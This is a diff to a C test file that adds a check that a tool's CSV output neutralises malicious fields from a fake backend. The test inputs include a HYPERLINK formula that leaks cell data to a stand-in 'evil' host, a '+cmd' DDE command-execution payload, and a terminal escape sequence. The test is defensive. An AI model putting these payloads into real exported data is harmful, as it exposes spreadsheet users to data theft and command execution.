@@ -26,6 +26,7 @@ static const struct app_clock test_clock = { .now = clock_now, .sleep = clock_sl
 
 static const struct backend_ops *fake_ops;
 static struct backend_ops leaky_ops;
+static const char *leak_work = LEAK, *leak_distro = "c\033[2J";
 
 /* The fake's snapshot, then centos-1's workload, distro and a log-worthy
  * name replaced with raw bytes, as a backend without guest_text would. */
@@ -37,8 +38,8 @@ static int leaky_snapshot(struct backend *b, double now, struct snapshot *s,
 	for (size_t i = 0; rc == 0 && i < s->n; i++) {
 		if (strcmp(s->dom[i].name, "centos-1"))
 			continue;
-		memcpy(s->dom[i].workload, LEAK, sizeof LEAK);
-		memcpy(s->dom[i].distro, "c\033[2J", sizeof "c\033[2J");
+		snprintf(s->dom[i].workload, sizeof s->dom[i].workload, "%s", leak_work);
+		snprintf(s->dom[i].distro, sizeof s->dom[i].distro, "%s", leak_distro);
 	}
 	return rc;
 }
@@ -122,6 +123,54 @@ static void test_batch(void)
 	}
 }
 
+/* Fields of one CSV line as RFC 4180 reads them (quotes may hold commas). */
+static int csv_fields(const char *line, const char *end)
+{
+	int fields = 1;
+	bool quoted = false;
+
+	for (const char *p = line; p < end; p++) {
+		if (*p == '"')
+			quoted = !quoted;
+		else if (*p == ',' && !quoted)
+			fields++;
+	}
+	return fields;
+}
+
+/* Lines whose field count differs from the header's. */
+static int csv_ragged(const char *out)
+{
+	const char *nl = strchr(out, '\n');
+	int want = nl ? csv_fields(out, nl) : 0, bad = 0;
+
+	for (const char *p = out; (nl = strchr(p, '\n')); p = nl + 1)
+		bad += csv_fields(p, nl) != want;
+	return bad;
+}
+
+static void test_csv(void)
+{
+	struct app a;
+	size_t n;
+	char *out;
+
+	leak_work = "=HYPERLINK(\"http://evil/\"&A1,\"x\"),\r\n1";
+	leak_distro = "+cmd|' /C calc'!A0";
+	open_app(&a);
+	out = batch_output(&a, true, false, &n);
+	CHECK_INT(controls(out, n), 0, "--csv: no control byte from a leaky backend");
+	CHECK_CONTAINS(out, ",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\"),??1\"\n",
+		       "--csv: a formula with , and \" is neutralised with ', quoted, quotes doubled");
+	CHECK_CONTAINS(out, ",'+cmd|' /C calc'!A0,", "--csv: a text field starting with + gets a '");
+	CHECK_CONTAINS(out, ",2,centos-1,", "--csv: numbers stay numbers");
+	CHECK_INT(csv_ragged(out), 0, "--csv: every line has the header's number of fields");
+	free(out);
+	app_free(&a);
+	leak_work = LEAK;
+	leak_distro = "c\033[2J";
+}
+
 /* ---- screen ------------------------------------------------------------ */
 
 #define SCR_ROWS 30
@@ -201,6 +250,7 @@ int main(void)
 	if (!setlocale(LC_ALL, "C.UTF-8"))
 		setlocale(LC_ALL, "");
 	test_batch();
+	test_csv();
 	test_screen();
 	return harness_done();
 }
